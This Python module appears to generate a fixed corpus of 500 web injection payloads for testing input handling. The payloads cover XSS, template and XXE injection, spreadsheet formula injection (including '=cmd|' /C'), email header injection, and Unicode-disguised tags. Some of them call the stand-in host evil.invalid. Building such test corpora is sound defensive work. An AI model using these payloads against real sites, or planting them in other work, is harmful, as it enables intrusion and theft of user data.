"""Five hundred ways to be taken for a part of the page, made from a grammar: the same in every run.

Each is a way into a place (element, attribute, script, style, XML, table, head of a mail) around an act that would be
seen: a global that is set, a dialog, or a request to a host that does not exist. None is as long as the shortest field
that anybody may write in, so that every one goes into every field.
"""

import random
from itertools import product

HOST = "evil.invalid"
COUNT, SHORTEST = 500, 60
ACTS = ("pwned=1", "alert(7)", "top.pwned=1", "pwned=[]", f"fetch`//{HOST}`", "self['pwned']=1")
OUT_OF = (
    "", '">', "'>", "</p>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</option></select>",
)  # fmt: skip
ELEMENTS = (
    "<script>{a}</script>", "<ScRiPt>{a}</sCrIpT>", "<script/x>{a}</script>", "<script>{a}//",
    "<scr<script>ipt>{a}</script>", "<img src=x onerror={a}>", "<img/src=x/onerror={a}>", "<svg onload={a}>",
    "<svg/onload={a}//", "<svg><script>{a}</script>", "<svg><animate onbegin={a} dur=1>", "<body onload={a}>",
    "<input autofocus onfocus={a}>", "<details open ontoggle={a}>", "<video src=x onerror={a}>",
    "<audio src onerror={a}>",
    "<iframe onload={a}>", '<iframe srcdoc="<svg onload={a}>">', "<iframe src=javascript:{a}>",
    "<object data=javascript:{a}>", "<embed src=javascript:{a}>", "<marquee onstart={a}>x</marquee>",
    "<style>*{{}}</style><svg onload={a}>", "<noscript><p title='</noscript><svg onload={a}>'>",
    "<math><mi href=javascript:{a}>",
    "<a href=javascript:{a}>x</a>", "<form action=javascript:{a}><button>", "<x tabindex=1 autofocus onfocus={a}>",
    "<xss style=animation:a onanimationend={a}>",
)  # fmt: skip
FETCHES = (
    "<img src=//{h}/i>", "<script src=//{h}/s></script>", "<link rel=stylesheet href=//{h}/c>", "<base href=//{h}/>",
    "<style>@import'//{h}/c'</style>", "<iframe src=//{h}/f></iframe>", "<meta http-equiv=refresh content=0;//{h}>",
    "<p style=background:url(//{h}/b)>", "<svg><image href=//{h}/v />", "<object data=//{h}/o>",
    "<video poster=//{h}/p>",
    "<input type=image src=//{h}/n>",
)  # fmt: skip
ATTRIBUTES = ('" {e}={a} x="', "' {e}={a} x='", "` {e}={a} ", " {e}={a} ", '" autofocus {e}={a} "')
EVENTS = ("onfocus", "onload", "onerror", "onmouseover", "onpointerenter", "onanimationstart")
ADDRESSES = (
    "javascript:{a}", "JaVaScRiPt:{a}", "java\tscript:{a}", "javascript&colon;{a}", "&#106;avascript:{a}",
    "\x01javascript:{a}", "data:text/html,<script>{a}</script>", "data:image/svg+xml,<svg onload={a}>", "vbscript:{a}",
    "javascript://%0a{a}",
)  # fmt: skip
SCRIPTS = (
    "';{a};//", '";{a};//', "\\';{a};//", "${{{a}}}", "`+({a})+`", '"}}</script><script>{a}</script>',
    '"]}}</script><svg onload={a}>', "\\u003cscript>{a}\\u003c/script>", "<!--<script>{a}", "\u2028{a}//", "*/{a}/*",
)  # fmt: skip
TEMPLATES = (
    "{{{{{a}}}}}", "{{% {a} %}}", "<%={a}%>", "#{{{a}}}", "[[{a}]]", "{{{{[].constructor.constructor('{a}')()}}}}",
    "{{% include '/etc/passwd' %}}{a}", "{{{{ settings.SECRET_KEY }}}}{a}", "%(pwned)s{{0.__class__}}{a}",
)  # fmt: skip
XML = (
    "<i xmlns='http://www.w3.org/1999/xhtml' onclick='{a}'/>", "]]></title><entry>{a}</entry>",
    "<![CDATA[<script>{a}</script>", "<!DOCTYPE x[<!ENTITY e '{a}'>]>&e;", "<?xml-stylesheet href='//{h}/x'?>",
    "</summary><link href='javascript:{a}'/>", "&lt;script&gt;{a}&lt;/script&gt;", "&#60;svg onload={a}&#62;",
    "<!ENTITY % x SYSTEM '//{h}/d'>{a}",
)  # fmt: skip
STYLES = (
    "*{{background:url(//{h}/s)}}",
    "</style><svg onload={a}>",
    "x:expression({a})",
    "url(javascript:{a})",
)
TABLES = (
    "=cmd|' /C {a}'!A0", '=HYPERLINK("//{h}","{a}")', "+{a}", "-{a}", "@SUM({a})", "\t={a}", "＝{a}", "\u200b={a}",
    '=WEBSERVICE("//{h}/{a}")', ";={a}", '",={a}',
)  # fmt: skip
HEADS = (
    "x\r\nBcc: a@{h}\r\n\r\n{a}", "x\nSubject: {a}", "x\rBcc: a@{h} {a}", "x%0d%0aBcc: a@{h} {a}",
    "x\u2028Bcc: a@{h} {a}",
    "=?utf-8?q?=0aBcc:_a=40{h}?={a}", "x\x0bBcc: a@{h}{a}", "x\x85Bcc: a@{h}{a}",
)  # fmt: skip
DISGUISED = (
    "＜script＞{a}＜/script＞", "\u202e>tpircs<{a}", "<\u200bscript>{a}</script>", "%3Cscript%3E{a}%3C/script%3E",
    "+ADw-script+AD4-{a}+ADw-/script+AD4-", "<\u017fcript>{a}</\u017fcript>", "\ufeff<svg onload={a}>",
    "<svg\x0conload={a}>",
    "‹script›{a}‹/script›", "𠮷<svg onload={a}>", "<svg\u3000onload={a}>", "\x1b[31m<svg onload={a}>",
)  # fmt: skip
FAMILIES = {
    "element": [out + said for out, said in product(OUT_OF, ELEMENTS + FETCHES)],
    "attribute": [said.replace("{e}", event) for said, event in product(ATTRIBUTES, EVENTS)],
    "address": ADDRESSES, "script": SCRIPTS, "template": TEMPLATES, "xml": XML, "style": STYLES, "table": TABLES,
    "head": HEADS, "disguised": DISGUISED,
}  # fmt: skip


def corpus():
    """Return the 500, of every family the same part where it has so many; shuffled, always in the same order."""
    dice = random.Random(500)
    kinds = []
    for said in FAMILIES.values():
        made = {one.format(a=act, h=HOST) for one, act in product(said, ACTS)}
        fits = sorted(one for one in made if len(one) <= SHORTEST)
        kinds.append(dice.sample(fits, len(fits)))
    most = max(map(len, kinds))
    turns = [kind[n] for n in range(most) for kind in kinds if n < len(kind)]
    return dice.sample(found := list(dict.fromkeys(turns))[:COUNT], len(found))


def sample(seed, count):
    """Return so many of them, others with each seed."""
    return random.Random(seed).sample(corpus(), count)
